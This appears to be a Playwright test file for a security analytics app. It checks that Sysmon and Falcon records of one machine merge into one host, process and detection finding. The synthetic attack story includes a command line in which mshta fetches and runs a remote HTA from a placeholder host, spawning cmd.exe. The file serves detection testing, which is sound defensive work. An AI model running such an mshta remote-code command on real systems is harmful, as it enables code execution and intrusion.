import { type APIRequestContext, expect, test } from '@playwright/test';
import { MSHTA, WORD } from '../lib/analytics/testStory';
import { type Micros, micros } from '../lib/base/time';
import type { EndpointEvent } from '../lib/events/endpointEvent';
import { scenario } from '../lib/events/scenario';
import { writeFalcon } from '../lib/sample/vendors/falcon';
import { writeSysmon } from '../lib/sample/vendors/sysmon';
import { expectAccessibleInBothThemes } from './support/accessible';
import { findings, imported } from './support/api';

const HOST = 'two-eyes.corp.example';
const AID = '7d3f0c2b9a514e6d8f1b2c3d4e5f6071';

/** Word starts mshta on a remote HTA, which starts a shell; Sysmon and Falcon both watch, Falcon 95 s late. */
function told(): { readonly sysmon: Buffer; readonly falcon: Buffer; readonly alerts: Buffer } {
  const s = scenario({ host: HOST, user: 'CORP\\m.keller', start: '2026-04-07T08:12:00Z' });
  const word = s.starts(WORD);
  s.after('40s');
  const mshta = s.starts(MSHTA, { parent: word, commandLine: `${MSHTA} https://files.example/view.hta` });
  s.after('2s');
  s.starts('C:\\Windows\\System32\\cmd.exe', { parent: mshta });
  const other = s.starts('C:\\Tools\\probe.exe');
  const events = s.events();
  const alert = (
    id: string,
    name: string,
    process: { readonly pid: number; readonly executable: string },
    at: string,
  ) => ({
    metadata: { eventType: 'EppDetectionSummaryEvent', eventCreationTime: Date.parse(at), offset: 1 },
    event: {
      Name: name,
      CompositeId: id,
      AgentId: AID,
      Hostname: HOST.split('.')[0],
      SeverityName: 'High',
      FileName: process.executable.split('\\').at(-1),
      FilePath: process.executable,
      CommandLine: process.executable,
      LocalIP: '10.0.0.1',
      ProcessId: processIdOf(events, process.pid),
      ProcessStartTime: Date.parse(at) / 1000,
    },
  });
  return {
    sysmon: lines(writeSysmon(events)),
    falcon: lines(writeFalcon(events.map((event) => ({ ...event, time: later(event.time) })))),
    alerts: lines([
      alert('falcon:1', 'Mshta with remote content', mshta, '2026-04-07T08:14:15Z'),
      alert('falcon:2', 'Probe seen', other, '2026-04-07T08:14:17Z'),
    ]),
  };
}

test('what two products saw of one machine is one host, one process and one finding', async ({
  page,
  request,
}) => {
  const story = told();
  await imported(request, 'two-eyes-falcon.json', story.falcon);
  await imported(request, 'two-eyes-sysmon.json', story.sysmon);
  await imported(request, 'two-eyes-alerts.json', story.alerts);
  const found = (await findings(request, { host: HOST })).items.filter((item) => item.analytic === 'AN1397');
  expect(found.map((finding) => [finding.analytic, finding.status])).toEqual([['AN1397', 'complete']]);

  await page.goto('/hosts');
  await page.getByRole('button', { name: `Details of ${HOST}` }).click();
  const host = page.getByRole('complementary', { name: 'Host' });
  await expect(host).toContainText(AID);
  await expect(host).toContainText('1 min 35 s ahead of Windows event log');
  await expect(host).toContainText('its events are moved');
  await expectAccessibleInBothThemes(page);

  // A start that both recorded: its sources stand side by side.
  const start = await startOfMshta(request);
  await page.goto(`/findings/${found[0]?.id}?event=${start}&tab=event`);
  await expect(page.getByRole('heading', { name: 'One process, 2 sources' })).toBeVisible();
});

test('a name can be told apart from its host, and the decision taken back', async ({ page }) => {
  await page.goto('/hosts');
  await page.getByRole('button', { name: `Details of ${HOST}` }).click();
  const host = page.getByRole('complementary', { name: 'Host' });
  await host
    .getByRole('listitem')
    .filter({ hasText: AID })
    .getByRole('button', { name: 'Not this machine' })
    .click();
  await expect(page.getByRole('button', { name: `Details of ${AID}` })).toBeVisible();
  await expect(host).toContainText('is another machine');
  await host.getByRole('button', { name: 'Undo' }).click();
  await expect(page.getByRole('button', { name: `Details of ${AID}` })).toBeHidden();
  await expect(host).toContainText('records give both with the device id');
});

test('a clock can be left as the product reported it', async ({ page }) => {
  await page.goto('/hosts');
  await page.getByRole('button', { name: `Details of ${HOST}` }).click();
  const clock = page.getByRole('complementary', { name: 'Host' }).getByRole('button', { name: 'Correct it' });
  await clock.click();
  await expect(clock).toHaveAttribute('aria-pressed', 'false');
  await expect(async () => {
    await page.reload();
    await expect(page.getByRole('complementary', { name: 'Host' })).toContainText('left as reported', {
      timeout: 2000,
    });
  }).toPass();
  await clock.click();
  await expect(clock).toHaveAttribute('aria-pressed', 'true');
});

test('vendor alerts say which chain explains them, and which none does', async ({ page }) => {
  await page.goto(`/alerts?host=${HOST}`);
  const table = page.getByRole('grid', { name: 'Vendor alerts, newest first' });
  await expect(table).toContainText('Probe seen');
  await expect(table).not.toContainText('Mshta with remote content');
  await page.getByRole('button', { name: 'No chain explains it' }).click();
  const row = table.getByRole('row').filter({ hasText: 'Mshta with remote content' });
  await expect(row.getByRole('link', { name: 'part of a finding' })).toBeVisible();
  await page.keyboard.press('j');
  await expect(page.getByRole('complementary', { name: 'Alert' })).toContainText('vendor alert on');
  await expectAccessibleInBothThemes(page);
  await row.getByRole('link', { name: 'part of a finding' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText('mshta.exe');
});

async function startOfMshta(request: APIRequestContext): Promise<string> {
  const answer = await request.get(`/api/v1/events?kind=process_start&host=${HOST}&q=view.hta`);
  const { items } = (await answer.json()) as { items: { id: string; fields: Record<string, string> }[] };
  return items.find((item) => /mshta\.exe$/i.test(item.fields['process.executable'] ?? ''))?.id ?? '';
}

function later(time: Micros): Micros {
  return micros(time + 95_000_000);
}

/** Falcon's id of the story's process with this pid. */
function processIdOf(events: readonly EndpointEvent[], pid: number): string {
  const records = writeFalcon(events);
  return records.find((record) => record.RawProcessId === String(pid))?.TargetProcessId ?? '';
}

function lines(records: readonly unknown[]): Buffer {
  return Buffer.from(records.map((record) => `${JSON.stringify(record)}\n`).join(''));
}
